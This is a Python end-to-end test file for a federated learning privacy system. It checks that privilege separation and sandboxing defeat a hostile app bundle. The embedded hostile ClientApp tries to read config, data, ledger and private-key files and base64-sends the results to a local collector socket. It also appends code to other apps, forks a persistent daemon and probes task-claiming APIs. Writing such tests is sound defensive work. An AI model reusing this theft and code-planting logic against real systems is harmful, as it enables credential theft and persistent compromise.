"""Privilege separation on a deployed client (issues 13 and 25, privacy.md §10): a hostile app bundle gets nothing.

Two client agents on loopback, as separate OS users would run them:

- each agent service (``fedfilter agent serve``) runs as root, the data owner: its TOML, data and
  ledger lie in a root-owned folder of mode 0700, the files 0600;
- each SuperNode runs as a user of its own (uid NODE_UIDS[i], ``setpriv --reuid --regid --groups``),
  from a virtual environment that user can execute, with TLS to the SuperLink and node
  authentication; its key is readable by that user only. Both reach the sockets' folder (``root``,
  group SOCKET_GID, mode 2750, setgid: every socket made there, mode 0660, is in that group, also
  after a restart), as a host shared by two agents would have it; what keeps agent i's SuperNode
  from agent j's socket is agent j's ``agent-socket-peers`` (SO_PEERCRED), not the file mode;
- each SuperNode starts its ClientApps through fedfilter's ``flwr-clientapp`` shim
  (:mod:`simulations.deploy.clientapp_sandbox`): fresh folders and namespaces per run (PID, network: its
  Runtime API only through a relay).

In order:
1. an honest run (two gradient rounds); agent 0's service is killed with SIGKILL while its request
   for round 2 is in flight and started again. The run finishes; no spend is lost or decreased.
2. a hostile run: the bundle's ``client_agent/client_app.py`` is replaced by a ClientApp that, on
   every message, tries to read each agent's TOML, data file and ledger (their absolute paths are
   written into its code) and records what it got in a world-writable folder; then forwards the
   request like the real proxy, and adds its own: one below the agent's ``policy-min-noise-std``,
   one carrying a budget key, and one within the policy under a new request id. Every read fails
   with PermissionError; the first two are refused and charge nothing; the ledger gains only the
   admitted requests, each charged (norm / noise_std)^2 per unit by the filter. It also asks the
   *other* agent's socket (closed unread: not its peer), reads the other node's key (PermissionError),
   appends code to every unpacked app it can find under its SuperNode's home and its own
   ``FLWR_HOME``, forks a daemon that keeps asking its agent, and asks for the next pending task
   (``AcquireTask``) at its Runtime API address (the shim's relay: refused) and at every SuperNode's port on
   the host's loopback (out of its network namespace's reach).
3. a second honest run: the planted code never runs, and the daemon is gone once the hostile run
   ended.

Every process is started in its own session and stopped by PID, also when a test fails. Runs only
as root with ``setpriv``, unprivileged user namespaces and a python3.11 that the node users can
execute; skipped otherwise, except under ``CI=true``, where a test that cannot run fails with its reason.
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import sysconfig
import tempfile
import threading
import time
import tomllib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from client_agent.ledger import Ledger
from client_agent.ledger_report import verify_ledger
from protocol import messages as wire
from simulations.deploy.agent_files import write_agent_files, write_agent_toml
from simulations.deploy.keys import make_node_keys
from simulations.deploy.local import (
    DeploymentError,
    LocalDeployment,
    NodeLauncher,
    descendants,
    pid_alive,
    stage_app,
    wait_for,
)
from tests.e2e.common import cannot_run, make_parts, snapshot

pytestmark = pytest.mark.flower

# FEDFILTER_E2E_OLD_LAYOUT=1 runs the same scenario on the layout before issue 25 (each agent answers
# both node users; Flower's own flwr-clientapp, no shim): the isolation tests must then fail (a control,
# run by hand: `FEDFILTER_E2E_OLD_LAYOUT=1 pytest tests/e2e/test_hostile_bundle.py`).
OLD_LAYOUT = os.environ.get("FEDFILTER_E2E_OLD_LAYOUT") == "1"
NODE_UIDS = (64001, 64002)  # one OS user per SuperNode (numeric: nothing is added to /etc/passwd)
SOCKET_GID = 64000  # the group of the sockets' folder, which both node users are in
OVERFLOW_GID = (
    int(Path("/proc/sys/kernel/overflowgid").read_text()) if Path("/proc/sys/kernel/overflowgid").exists() else 65534
)


def setpriv(uid: int) -> tuple[str, ...]:
    return ("setpriv", f"--reuid={uid}", f"--regid={uid}", f"--groups={SOCKET_GID}")


NODE_ENV = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "LANG": "C.UTF-8"}  # what the SuperNodes start with
NODE_TOOLS = ("flower-supernode", "flower-superexec", "flwr-clientapp")
N_AGENTS = 2
RECORDS = 20
NOISE_STD = 3.0
POLICY_MIN_NOISE_STD = 2.0  # every agent
HOSTILE_NOISE_STD = 0.5  # below the policy: refused
EPSILON = 8.0  # room for every request below: no unit runs out, so each admitted one charges every unit
MODEL_ARGS = json.dumps({"in_features": 4, "n_classes": 2})


# --- what the test needs from the host ---------------------------------------------------------


def as_node_user(*argv: str, timeout: float = 60.0, uid: int = NODE_UIDS[0]) -> subprocess.CompletedProcess[str]:
    """Run ``argv`` as a node user with the sockets' group only and a minimal environment."""
    return subprocess.run(
        [*setpriv(uid), *argv], env=NODE_ENV, cwd="/", capture_output=True, text=True, timeout=timeout, check=False
    )


@functools.cache
def node_python() -> str | None:
    """A python of this interpreter's version that the node users can execute (a pyenv shim under /root is not)."""
    wanted = f"{sys.version_info[0]}.{sys.version_info[1]}"
    candidates = [shutil.which(f"python{wanted}", path=d) for d in os.environ.get("PATH", "").split(os.pathsep)]
    candidates += [shutil.which(f"python{wanted}", path=d) for d in ("/usr/local/bin", "/usr/bin")]
    for found in dict.fromkeys(c for c in candidates if c):
        real = os.path.realpath(found)
        probe = as_node_user(real, "-c", "import sys; print('%d.%d' % sys.version_info[:2])")
        if probe.returncode == 0 and probe.stdout.strip() == wanted:
            return real
    return None


def skip_reason() -> str | None:
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return "needs root: the agent services run as root, the SuperNodes as users of their own (setpriv)"
    for tool in ("setpriv", "unshare"):
        if shutil.which(tool) is None:
            return f"needs {tool} (util-linux) to run the SuperNodes and their ClientApps"
    probe = as_node_user("unshare", "--user", "--map-current-user", "--pid", "--fork", "--kill-child", "true")
    if probe.returncode != 0:
        return f"needs unprivileged user namespaces for the ClientApp's PID namespace: {probe.stderr.strip()}"
    if node_python() is None:
        return f"needs a python{sys.version_info[0]}.{sys.version_info[1]} that uid {NODE_UIDS[0]} can execute"
    return None


def make_node_venv(dest: Path, python: str) -> Path:
    """A venv the node users can run, seeing this interpreter's site-packages, with Flower's node commands."""
    subprocess.run([python, "-m", "venv", "--without-pip", str(dest)], check=True, capture_output=True)
    out = subprocess.run(
        [str(dest / "bin" / "python3"), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        check=True,
        capture_output=True,
        text=True,
    )
    paths = dict.fromkeys(sysconfig.get_paths()[k] for k in ("purelib", "platlib"))
    lines = "".join(f"import site; site.addsitedir({p!r})\n" for p in paths)
    Path(out.stdout.strip(), "_fedfilter_main_venv.pth").write_text(lines)
    source = Path(sys.executable).parent
    for tool in NODE_TOOLS:
        text = (source / tool).read_text().split("\n", 1)[1]
        (dest / "bin" / tool).write_text(f"#!{dest / 'bin' / 'python3'}\n{text}")
        (dest / "bin" / tool).chmod(0o755)
    probe = as_node_user(str(dest / "bin" / "python3"), "-c", "import flwr.supernode, numpy, grpc")
    if probe.returncode != 0:
        cannot_run(
            f"uid {NODE_UIDS[0]} cannot import Flower from {list(paths)} (every folder on the way must be o+rx): "
            f"{probe.stderr.strip().splitlines()[-1:]}"
        )
    return dest / "bin"


# --- the hostile ClientApp ---------------------------------------------------------------------

HOSTILE_CLIENT_APP = '''"""A hostile bundle's ClientApp: steals what it can, then asks the agent for more."""

import base64
import json
import os
import socket

from flwr.app import Context, Error, Message
from flwr.clientapp import ClientApp

from client_agent import local_wire
from protocol.records import decode_content, encode_content

TARGETS = {targets!r}
EXFIL = {exfil!r}
LOW_NOISE = {low_noise!r}
OTHER = {other!r}  # socket -> the other agent's socket
KEYS = {keys!r}  # socket -> the other node's private key
HOMES = {homes!r}  # socket -> this node's SuperNode home (its FLWR_HOME)
RUNTIME_PORTS = {runtime_ports!r}  # each SuperNode's Runtime API, on the host's loopback
# Everything outside its run's folder is read-only in the sandbox: what it learns leaves by a socket (a
# datagram "name NUL text" to the test's collector, which appends text to EXFIL/name), as it could to anywhere.
COLLECTOR = os.path.join(EXFIL, "collector.sock")
PLANTED = "planted.log"
DAEMON_MARK = "fedfilter-hostile-daemon"
DAEMON = """
import socket, sys, time
sock, log, collector = sys.argv[1], sys.argv[2], sys.argv[3]
end = time.time() + 150
while time.time() < end:
    line = str(time.time())
    try:
        c = socket.socket(socket.AF_UNIX)
        c.settimeout(5)
        c.connect(sock)
        c.close()
        line += " connected"
    except OSError as exc:
        line += " " + type(exc).__name__
    out = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    out.sendto(log.encode() + bytes(1) + (line + chr(10)).encode(), collector)
    out.close()
    time.sleep(1)
"""


def send(name, text):
    out = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        out.sendto(name.encode() + bytes(1) + text.encode(), COLLECTOR)
    finally:
        out.close()


def plant():
    """Append code to every unpacked app's client_app.py this user can find: it would run in later runs."""
    done = []
    for root in {{os.environ.get("FLWR_HOME", ""), *HOMES.values()}}:
        for dirpath, _, files in os.walk(os.path.join(root, "apps")) if root else []:
            if "client_app.py" in files:
                path = os.path.join(dirpath, "client_app.py")
                try:
                    with open(path, "a") as out:
                        out.write("\\nimport socket as _s; _o = _s.socket(_s.AF_UNIX, _s.SOCK_DGRAM); "
                                  "_o.sendto(b'" + PLANTED + "' + bytes(1) + b'planted code ran\\\\n', "
                                  + repr(COLLECTOR) + ")\\n")
                    done.append(path)
                except OSError as exc:
                    done.append(path + ": " + type(exc).__name__)
    return done


def fork_daemon(sock):
    import subprocess, sys
    log = "daemon-" + os.path.basename(sock) + ".log"
    import time
    subprocess.Popen([sys.executable, "-c", DAEMON, sock, log, COLLECTOR, DAEMON_MARK], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 20
    while time.time() < deadline and not os.path.exists(os.path.join(EXFIL, log)):  # it sent its first line
        time.sleep(0.05)
    return os.path.exists(os.path.join(EXFIL, log))


def steal(path):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except BaseException as exc:
        return {{"error": type(exc).__name__}}
    return {{"bytes": len(data), "content": base64.b64encode(data).decode()}}


def ask(sock, message_type, config, arrays):
    frame = local_wire.pack_request(message_type, dict(config), dict(arrays))
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(120)
        conn.connect(sock)
        local_wire.send(conn, frame)
        reply = local_wire.receive(conn, local_wire.MAX_FRAME_BYTES)
    return local_wire.unpack_reply(reply)


def acquire(host, port):
    """AcquireTask on a Runtime API: no token needed in Flower 1.42's subprocess mode (a review claimed a later
    run's task with it). The HTTP status, or the error that stopped the call."""
    import http.client
    try:
        conn = http.client.HTTPConnection(host, port, timeout=10)
        conn.request("POST", "/v1/runtime/acquire-task", body=b"", headers={{"content-type": "application/protobuf"}})
        answer = conn.getresponse()
        answer.read()
        conn.close()
        return answer.status
    except (OSError, http.client.HTTPException) as exc:
        return type(exc).__name__


def handle(msg, context):
    sock = context.node_config["agent-socket"]
    message_type = msg.metadata.message_type
    record = {{"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "socket": sock,
              "message_type": message_type, "asked": []}}
    record["reads"] = {{name: steal(path) for target in TARGETS.values() for name, path in target.items()}}
    record["other_key"] = {{k: v for k, v in steal(KEYS[sock]).items() if k != "content"}}
    record["flwr_home"] = os.environ.get("FLWR_HOME")
    import sys
    own = sys.argv[sys.argv.index("--runtime-api-address") + 1].rsplit(":", 1)
    record["acquire"] = {{"own": acquire(own[0], int(own[1])),
                         "host": [acquire("127.0.0.1", port) for port in RUNTIME_PORTS]}}
    # The agent service's threads, as /proc shows them (their CPU time is in task/*/schedstat).
    seen = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                    seen.append(f.read().replace(b"\\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    record["agent_in_proc"] = [c for c in seen if "agent serve" in c or "flower-supernode" in c]
    try:
        record["listing"] = sorted(os.listdir(os.path.dirname(next(iter(TARGETS[sock].values())))))
    except BaseException as exc:
        record["listing"] = type(exc).__name__
    try:
        config, arrays = decode_content(msg.content)
        code, reason, reply_config, reply_arrays = ask(sock, message_type, config, arrays)
        record["asked"].append({{"what": "forwarded", "request_id": config.get("request_id"), "code": code}})
        try:
            cross = dict(config, request_id=str(config.get("request_id")) + "-cross")
            record["cross"] = {{"code": ask(OTHER[sock], message_type, cross, arrays)[0]}}
        except BaseException as exc:
            record["cross"] = {{"error": type(exc).__name__}}
        if message_type == "train.gradient":
            record["planted"] = plant()
            record["daemon_started"] = fork_daemon(sock)
            rid = config["request_id"]
            hostile = [
                ("below-policy", dict(config, request_id=rid + "-hostile-low-noise", noise_std=LOW_NOISE)),
                ("budget-key", dict(config, request_id=rid + "-hostile-budget", epsilon=1e9)),
                ("within-policy", dict(config, request_id=rid + "-hostile-extra")),
            ]
            for what, cfg in hostile:
                c = ask(sock, message_type, cfg, arrays)[0]
                record["asked"].append({{"what": what, "request_id": cfg["request_id"], "code": c,
                                         "noise_std": cfg["noise_std"]}})
    except BaseException as exc:
        record["failed"] = type(exc).__name__ + ": " + str(exc)
        raise
    finally:
        send(os.path.basename(sock) + ".jsonl", json.dumps(record) + "\\n")
    if code != 0:
        return Message(Error(code=code, reason=reason), reply_to=msg)
    return Message(encode_content(reply_config, reply_arrays), reply_to=msg)


app = ClientApp()
app.train("gradient")(handle)
for name in ("indicator", "monitor", "status", "secagg_keys", "secagg_shares", "secagg_unmask"):
    app.query(name)(handle)
'''


def stage_hostile_app(dest: Path, world: World) -> Path:
    """The app bundle with its ClientApp replaced by :data:`HOSTILE_CLIENT_APP`."""
    app = stage_app(dest)
    sockets = [str(a.socket) for a in world.agents]
    code = HOSTILE_CLIENT_APP.format(
        targets=hostile_targets(world),
        exfil=str(world.exfil),
        low_noise=HOSTILE_NOISE_STD,
        other={sock: sockets[1 - i] for i, sock in enumerate(sockets)},
        keys={sock: str(world.keys[1 - i]) for i, sock in enumerate(sockets)},
        homes={sock: str(world.keys[i].parent) for i, sock in enumerate(sockets)},
        runtime_ports=[int(node.argv[node.argv.index("--port") + 1]) for node in world.supernodes],
    )
    compile(code, "client_app.py", "exec")
    (app / "client_agent" / "client_app.py").write_text(code)
    return app


class Collector:
    """The hostile bundle's way out: a datagram socket in the exfil folder, each ``name NUL text`` appended to
    ``exfil/name``. In the sandbox no folder but its run's is writable (simulations/deploy/clientapp_sandbox.py),
    so the bundle leaks what it finds as it could to anywhere, by a socket."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.sock.bind(str(folder / "collector.sock"))
        os.chmod(folder / "collector.sock", 0o666)
        self.sock.settimeout(0.2)
        self.last = time.monotonic()
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stopping.is_set():
            try:
                data = self.sock.recv(1 << 20)
            except TimeoutError:
                continue
            except OSError:
                return
            self.last = time.monotonic()
            name, _, text = data.partition(b"\0")
            safe = os.path.basename(name.decode(errors="replace"))
            if safe and safe != "collector.sock":
                with open(self.folder / safe, "ab") as out:
                    out.write(text)

    def settle(self, quiet_s: float = 1.0) -> None:
        """Return once nothing has arrived for ``quiet_s`` (every datagram sent before is written)."""
        while time.monotonic() - self.last < quiet_s:
            time.sleep(0.1)

    def close(self) -> None:
        self.stopping.set()
        self.thread.join(timeout=5)
        self.sock.close()


def read_exfil(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for p in sorted(folder.glob("*.jsonl")) for line in p.read_text().splitlines() if line]


# --- the deployment ----------------------------------------------------------------------------


def run_config(run_id: str, rounds: int) -> dict[str, Any]:
    return {
        "task": "gradient",
        "num-nodes": N_AGENTS,
        "n-public": N_AGENTS * RECORDS,
        "rounds": rounds,
        "noise-std": NOISE_STD,
        "l2-clip": 1.0,
        "learning-rate": 0.5,
        "trust": "local",
        "unit": "record",
        "model": "logreg",
        "model-args": MODEL_ARGS,
        "run-id": run_id,
        "round-timeout": 60.0,
        "enrol-timeout": 60.0,
    }


def charges(path: Path, request_ids: set[str]) -> tuple[np.ndarray, list[float]]:
    """What the filter charges for these stored releases, (norm / noise_std)^2 per admitted unit; their noise."""
    total: np.ndarray | None = None
    sigmas = []
    with Ledger.open_existing(path) as ledger:
        for request_id, _, rel in ledger.releases():
            if request_id not in request_ids:
                continue
            sigma = float(rel["noise_std"][0])
            cost = np.where(rel["refused"], 0.0, (rel["l2_norms"] / sigma) ** 2)
            total = cost if total is None else total + cost
            sigmas.append(sigma)
        n_units = ledger.config.n_units
    return (np.zeros(n_units) if total is None else total), sigmas


@dataclass
class Agent:
    toml: Path
    data: Path
    ledger: Path
    socket: Path


@dataclass
class World:
    root: Path
    dep: LocalDeployment
    agents: list[Agent]
    keys: list[Path]
    services: list[Any]
    supernodes: list[Any]
    exfil: Path
    launchers: list[NodeLauncher] = field(default_factory=list)
    collector: Collector | None = None
    results: dict[str, Any] = field(default_factory=dict)


def build_world(root: Path) -> World:
    """The owner's files, the sockets' folder, the node venv and the deployment (nothing started yet)."""
    owner_dir, sockets, exfil = root / "owner", root / "sockets", root / "exfil"
    tomls = write_agent_files(
        owner_dir, make_parts(N_AGENTS, RECORDS, seed=13), epsilon=EPSILON, delta=1e-5, unit="record", trust="local"
    )
    sockets.mkdir()
    os.chown(sockets, 0, SOCKET_GID)
    sockets.chmod(0o2750)  # setgid: every socket made here is in the sockets' group, also after a restart
    exfil.mkdir()
    exfil.chmod(0o1777)
    agents = []
    for i, toml in enumerate(tomls):
        values = tomllib.loads(toml.read_text())
        values["agent-socket"] = str(sockets / f"agent{i}.sock")
        values["agent-socket-mode"] = "0660"
        values["policy-min-noise-std"] = POLICY_MIN_NOISE_STD
        # its own SuperNode's user, nobody else (the old layout: any node user on the host)
        values["agent-socket-peers"] = [str(u) for u in NODE_UIDS] if OLD_LAYOUT else [str(NODE_UIDS[i])]
        write_agent_toml(toml, values)
        agents.append(Agent(toml, Path(values["data-path"]), Path(values["ledger-path"]), Path(values["agent-socket"])))
    for path in [owner_dir, *owner_dir.rglob("*")]:
        path.chmod(0o700 if path.is_dir() else 0o600)

    python = node_python()
    assert python is not None
    bin_dir = make_node_venv(root / "nodevenv", python)
    launchers = [NodeLauncher(prefix=setpriv(uid), bin_dir=bin_dir, env=NODE_ENV) for uid in NODE_UIDS]
    dep = LocalDeployment(root / "deploy", node_launcher=launchers[0], sandbox_clientapps=not OLD_LAYOUT)
    return World(root, dep, agents, [], [], [], exfil, launchers, Collector(exfil))


def start_world(world: World) -> None:
    """The SuperLink, then per agent: its key registered, its service (as root) and its SuperNode (its own user)."""
    dep, agents = world.dep, world.agents
    dep.start_superlink()
    for i in range(N_AGENTS):
        key = make_node_keys(world.root / "keys" / f"agent{i}").private
        home = dep.root / "agents" / f"agent{i}"  # the SuperNode's FLWR_HOME and working folder
        home.mkdir(parents=True)
        node_key = home / "node.key"
        shutil.copyfile(key, node_key)
        os.chown(home, NODE_UIDS[i], NODE_UIDS[i])
        os.chown(node_key, NODE_UIDS[i], NODE_UIDS[i])
        home.chmod(0o700)
        node_key.chmod(0o600)
        dep.register(key.with_name(key.name + ".pub"))
        world.keys.append(node_key)
    with ThreadPoolExecutor(N_AGENTS) as pool:  # each: the agent service (as root), then its SuperNode
        world.supernodes = list(
            pool.map(
                lambda i: dep.start_agent(f"agent{i}", agents[i].toml, world.keys[i], launcher=world.launchers[i]),
                range(N_AGENTS),
            )
        )
    world.services = [node.agent for node in world.supernodes]


def hostile_targets(world: World) -> dict[str, dict[str, str]]:
    return {
        str(a.socket): {
            f"agent{i}-toml": str(a.toml),
            f"agent{i}-data": str(a.data),
            f"agent{i}-ledger": str(a.ledger),
        }
        for i, a in enumerate(world.agents)
    }


def run_hostile(world: World, run_id: str) -> dict[str, Any] | DeploymentError:
    """``flwr run`` of the hostile bundle; its summary, or the error if the run left none."""
    app = stage_hostile_app(world.root / f"app-{run_id}", world)
    try:
        return world.dep.run(app, run_config(run_id, 1), timeout=300)
    except DeploymentError as exc:
        return exc


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    reason = skip_reason()
    if reason:
        cannot_run(reason)
    root = Path(tempfile.mkdtemp(prefix="fedfilter-hostile-"))
    root.chmod(0o755)  # nobody reaches its own folders below; the owner's folder stays 0700
    dep = None
    try:
        w = build_world(root)
        dep = w.dep
        start_world(w)
        yield w
    finally:
        try:
            if dep is not None:
                dep.stop_all()
                assert dep.survivors() == []  # every process started, and every process they started, is gone
        finally:
            for pid, _ in daemon_processes():  # only if the shim failed: nothing the test caused outlives it
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
            if dep is not None and w.collector is not None:
                w.collector.close()
            shutil.rmtree(root, ignore_errors=True)


@pytest.fixture(scope="module")
def scenario(world: World) -> World:
    """The honest run with the kill and the restart, then the hostile run; the tests read what happened."""
    dep, agent0 = world.dep, world.agents[0]
    log0 = world.supernodes[0].log
    crash: dict[str, Any] = {}
    run_over = threading.Event()

    def kill_and_restart() -> None:
        def asked_for_round_2() -> bool:
            # SuperNode 0 has started the ClientApp for its third request (status, round 1, round 2).
            return bool(log0.read_text(errors="replace").count("Start `flwr-clientapp` process") >= 3)

        try:
            wait_for(lambda: run_over.is_set() or asked_for_round_2(), timeout=240, what="round 2", every=0.05)
            if not asked_for_round_2():
                raise AssertionError("the honest run ended before agent 0 was asked for round 2")
            crash["before"] = snapshot(agent0.ledger)
            service = world.services[0]
            pids = [service.pid, *descendants(service.pid)]
            dep.kill(service)
            crash["killed_pids_alive"] = [p for p in pids if pid_alive(p)]
            crash["after_kill"] = snapshot(agent0.ledger)
            world.services[0] = dep.start_agent_service("agent0", agent0.toml)
            world.supernodes[0].agent = world.services[0]
        except BaseException as exc:
            crash["error"] = exc

    started = time.monotonic()
    killer = threading.Thread(target=kill_and_restart, daemon=True)
    killer.start()
    try:
        world.results["honest"] = dep.run(stage_app(world.root / "app"), run_config("honest", 2), timeout=300)
    finally:
        run_over.set()
        killer.join(timeout=120)
    if "error" in crash:
        raise crash["error"]
    assert not killer.is_alive(), "agent 0's service was not back within 120 s of the end of the honest run"
    world.results["crash"] = crash
    world.results["after_honest"] = [snapshot(a.ledger) for a in world.agents]
    world.results["socket_modes"] = [os.stat(a.socket) for a in world.agents]

    world.results["hostile"] = run_hostile(world, "hostile")
    world.results["after_hostile"] = [snapshot(a.ledger) for a in world.agents]
    assert world.collector is not None
    world.collector.settle()
    world.results["exfil"] = read_exfil(world.exfil)
    world.results["daemons_after_hostile"] = daemon_processes()
    world.results["daemon_logs_after_hostile"] = daemon_log_sizes(world)
    try:  # (on the old layout the planted code runs here, and may break the run: recorded, not raised)
        world.results["honest2"] = dep.run(stage_app(world.root / "app"), run_config("honest2", 1), timeout=300)
    except DeploymentError as exc:
        world.results["honest2"] = exc
    world.collector.settle(quiet_s=2.0)  # a daemon still alive would send within a second
    planted = world.exfil / "planted.log"
    world.results["planted_ran"] = planted.read_text() if planted.exists() else ""
    world.results["daemon_logs_after_honest2"] = daemon_log_sizes(world)
    world.results["daemons_after_honest2"] = daemon_processes()
    world.results["after_honest2"] = [snapshot(a.ledger) for a in world.agents]
    world.results["wall_s"] = time.monotonic() - started
    return world


# --- a bundle that is no ClientApp --------------------------------------------------------------

# An AgentApp bundle (an ``agentapp`` component): a hostile review's was started by the SuperNode as
# ``flwr-agentapp``, Flower's own, outside any sandbox. On the SuperLink's side (the coordinator's own agent,
# node 1) it sends a message to every node, which makes each SuperNode start its task; on a node's side it
# would report where it runs.
AGENT_APP = """
import json, os, socket, time
from flwr.agentapp import AgentApp

COLLECTOR = {collector!r}
DONE = {done!r}
app = AgentApp()


def send(name, text):
    out = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    out.sendto(name.encode() + bytes(1) + text.encode(), COLLECTOR)
    out.close()


@app.main()
def main(agent, context):
    if context.node_id == 1:
        nodes = json.loads(agent.grid.call({{"name": "get_nodes", "call_id": "a", "arguments": {{}}}})["output"])
        messages = [{{"dst_node_id": n["id"], "payload": "hi", "reply_to_message_id": None}} for n in nodes["nodes"]]
        agent.grid.call({{"name": "push_messages", "call_id": "b", "arguments": {{"messages": messages}}}})
        send("agentapp-superlink.jsonl", json.dumps({{"nodes": len(nodes["nodes"])}}) + chr(10))
        deadline = time.time() + 120
        while time.time() < deadline and not os.path.exists(DONE):  # the test has seen every node's answer
            time.sleep(0.2)
        return
    send("agentapp-node.jsonl", json.dumps({{"uid": os.getuid(), "net": os.readlink("/proc/self/ns/net")}}) + chr(10))
"""
AGENT_APP_TOML = """[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "hostileagent"
version = "1.0.0"
description = "an AgentApp bundle"
license = "Apache-2.0"
dependencies = []

[tool.hatch.build.targets.wheel]
packages = ["."]

[tool.flwr.app]
publisher = "hostile"

[tool.flwr.app.components]
agentapp = "hostileagent.agent:app"
"""
# Starts the bundle's run on the SuperLink's Control API, as `flwr` would (an AgentApp run takes a prompt).
START_RUN = """
import hashlib, sys
from pathlib import Path
from flwr.cli.build import build_fab_from_disk
from flwr.cli.flower_config import read_superlink_connection
from flwr.cli.utils import init_http_client_from_connection
from flwr.proto.control_pb2 import StartRunRequest
from flwr.proto.fab_pb2 import Fab

connection = read_superlink_connection(sys.argv[2])
fab = build_fab_from_disk(Path(sys.argv[1]))
request = StartRunRequest(fab=Fab(hash_str=hashlib.sha256(fab).hexdigest(), content=fab), user_prompt="hello",
                          federation=connection.federation or "")
print(init_http_client_from_connection(connection).StartRun(request).run_id)
"""


@pytest.fixture(scope="module")
def agentapp_run(scenario: World) -> World:
    """After the scenario: an AgentApp bundle's run; every SuperNode's log, once each has refused its task."""
    from simulations.deploy.certs import CONNECTION

    app = scenario.root / "agentapp"
    (app / "hostileagent").mkdir(parents=True)
    (app / "hostileagent" / "__init__.py").write_text("")
    done = scenario.exfil / "agentapp-done"
    code = AGENT_APP.format(collector=str(scenario.exfil / "collector.sock"), done=str(done))
    (app / "hostileagent" / "agent.py").write_text(code)
    (app / "pyproject.toml").write_text(AGENT_APP_TOML)
    seen = [len(node.log_text()) for node in scenario.supernodes]
    started = subprocess.run(
        [sys.executable, "-c", START_RUN, str(app), CONNECTION],
        env=scenario.dep.env(scenario.dep.flwr_home),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert started.returncode == 0, started.stderr[-2000:]
    refusal = "refusing a task of type flwr-agentapp"
    logs = lambda: [node.log_text()[n:] for node, n in zip(scenario.supernodes, seen, strict=True)]  # noqa: E731
    try:
        wait_for(lambda: all(refusal in log for log in logs()), timeout=120, what="every SuperNode refusing its task")
        assert scenario.collector is not None
        scenario.collector.settle(quiet_s=2.0)
        scenario.results["agentapp_logs"] = logs()
    finally:
        done.touch()  # the coordinator's side returns, and its run ends
    wait_for(lambda: not agentapp_processes(), timeout=60, what="the AgentApp's processes to end")
    return scenario


def agentapp_processes() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and b"flwr-agentapp" in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def daemon_processes() -> list[tuple[int, int]]:
    """(pid, uid) of every live process whose command line carries the hostile daemon's mark."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if b"fedfilter-hostile-daemon" in (entry / "cmdline").read_bytes():
                found.append((int(entry.name), entry.stat().st_uid))
        except OSError:
            continue
    return found


def daemon_log_sizes(world: World) -> dict[str, int]:
    return {p.name: p.stat().st_size for p in sorted(world.exfil.glob("daemon-*.log"))}


# --- the tests ---------------------------------------------------------------------------------


def test_owner_files_are_the_owners_and_each_node_runs_as_its_own_user(scenario: World) -> None:
    owner_dir = scenario.agents[0].toml.parent
    st = owner_dir.stat()
    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (0, 0o700)
    for agent in scenario.agents:
        for path in (agent.toml, agent.data, agent.ledger):
            st = path.stat()
            assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (0, 0o600), path
    st = scenario.agents[0].socket.parent.stat()
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, SOCKET_GID, 0o2750)
    for st in scenario.results["socket_modes"]:  # agent 0's socket is the restarted service's
        assert stat.S_ISSOCK(st.st_mode) and (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, SOCKET_GID, 0o660)
    for i, key in enumerate(scenario.keys):  # each node's key: its own user's only
        for path in (key, key.parent):
            st = path.stat()
            assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (NODE_UIDS[i], 0o600 if path == key else 0o700)
    for node, uid in zip(scenario.supernodes, NODE_UIDS, strict=True):  # the SuperNode and everything it started
        for pid in (node.pid, *descendants(node.pid)):
            try:
                status = Path(f"/proc/{pid}/status").read_text()
            except FileNotFoundError:  # a ClientApp that just finished
                continue
            uids = next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:]
            assert set(uids) == {str(uid)}, (pid, status[:200])
    for service in scenario.services:
        assert Path(f"/proc/{service.pid}/status").read_text().count("Uid:\t0\t0\t0\t0") == 1


def test_honest_run_finishes_with_tls_and_node_auth(scenario: World) -> None:
    honest = scenario.results["honest"]
    assert honest["rounds_completed"] == 2
    assert honest["stopped_because"] == "max_rounds"
    assert honest["privacy"]["clients_enrolled"] == N_AGENTS
    assert honest["units_enrolled"] == N_AGENTS * RECORDS
    assert honest["rounds"][0]["replies"] == N_AGENTS  # agent 0 was killed during round 2 only
    assert honest["rounds"][1]["replies"] >= N_AGENTS - 1
    after = scenario.results["after_honest"]
    assert {"honest:gradient:r1", "honest:gradient:r2"} <= after[1].request_ids
    assert "honest:gradient:r1" in after[0].request_ids
    for i, agent in enumerate(scenario.agents):
        assert after[i].spent.min() > 0  # every unit charged
